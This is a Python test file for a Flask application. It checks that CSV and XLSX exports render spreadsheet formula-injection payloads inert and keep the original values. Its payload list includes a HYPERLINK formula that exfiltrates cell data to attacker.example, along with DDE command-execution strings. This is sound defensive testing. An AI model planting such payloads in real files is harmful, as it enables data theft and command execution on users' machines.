"""Formula injection: a payload in every free-text field comes out inert, in CSV (read with the
csv module) and XLSX (read with openpyxl), and the value itself is kept."""

from __future__ import annotations

import pytest
from flask import Flask

from app.questionnaire import FREE_TEXT_TYPES
from app.roles import Role
from app.services import questionnaires
from app.services.exports.cells import FORMULA_STARTS
from tests.exports.conftest import client_as, post_export, read_csv, station

PAYLOADS = (
    '=HYPERLINK("http://attacker.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C notepad'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
    "=1+1",
)


def _free_text_questions(app: Flask) -> list[str]:
    with app.app_context():
        return [q.id for q in questionnaires.latest().questions() if q.type in FREE_TEXT_TYPES]


@pytest.fixture
def poisoned(sqlite_central: Flask) -> tuple[Flask, list[str]]:
    app = sqlite_central
    fields = _free_text_questions(app)
    assert len(fields) >= 5  # names, places, notes, contacts, hand-over notes
    post = station(app)
    items = [post.envelope(entries={qid: {"value": payload, "lang": "en"} for qid in fields},
                           outcome={"tier": "no_indicators", "flags": [], "elements": []},
                           override={"tier": "refer_mdt", "reason": payload})
             for payload in PAYLOADS]
    post.deliver(*items)
    return app, fields + ["override_reason"]


def test_csv_cells_are_inert_and_undo_exactly(poisoned: tuple[Flask, list[str]]) -> None:
    app, fields = poisoned
    client, _ = client_as(app, Role.COORDINATOR)
    posted = post_export(client, kind="full", format="csv")
    assert posted.response.status_code == 200
    table = read_csv(posted.body)
    ids = table[0]
    seen = set()
    for row in table[2:]:
        for cell in row:
            # No cell of the file starts the way a formula does.
            assert not cell.startswith(FORMULA_STARTS), repr(cell)
        for field in fields:
            raw = row[ids.index(field)]
            assert raw.startswith("'"), (field, raw)
            seen.add(raw[1:])
    assert seen == set(PAYLOADS)


def test_xlsx_cells_are_text_never_formulas(poisoned: tuple[Flask, list[str]]) -> None:
    import io

    import openpyxl

    app, fields = poisoned
    client, _ = client_as(app, Role.COORDINATOR)
    posted = post_export(client, kind="full", format="xlsx")
    assert posted.response.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(posted.body)).worksheets[0]
    rows = list(sheet.iter_rows())
    ids = [c.value for c in rows[0]]
    seen = set()
    for row in rows[2:]:
        for cell in row:
            assert cell.data_type != "f", cell.coordinate
        for field in fields:
            cell = row[ids.index(field)]
            assert cell.data_type == "s", (field, cell.value)
            # Excel's "quote prefix": the cell stays text even after someone edits it.
            assert cell.quotePrefix == cell.value.startswith(FORMULA_STARTS), (field, cell.value)
            seen.add(cell.value)
    assert seen == set(PAYLOADS)  # the value itself is kept, carriage return and all
